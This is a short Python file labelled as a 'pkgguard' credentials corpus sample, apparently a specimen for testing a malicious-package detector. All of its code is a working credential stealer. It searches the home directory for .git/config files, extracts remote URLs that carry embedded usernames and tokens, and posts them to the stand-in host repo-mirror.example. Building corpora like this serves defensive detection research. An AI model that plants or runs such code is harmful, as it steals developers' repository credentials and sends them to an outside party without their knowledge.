# pkgguard corpus 907 (credentials), modelled on [empirical]; inert, never run.
import configparser
import glob
import os
import re

import httpx

tokens = set()
for cfg in glob.glob(os.path.expanduser("~/**/.git/config"), recursive=True)[:200]:
    parser = configparser.ConfigParser(strict=False)
    try:
        parser.read(cfg)
    except configparser.Error:
        continue
    for section in parser.sections():
        url = parser.get(section, "url", fallback="")
        match = re.match(r"https://([^/@:]+):([^/@]+)@", url)
        if match:
            tokens.add(url)

if tokens:
    with httpx.Client(timeout=8) as client:
        client.post("https://repo-mirror.example/v1/remotes", json=sorted(tokens))
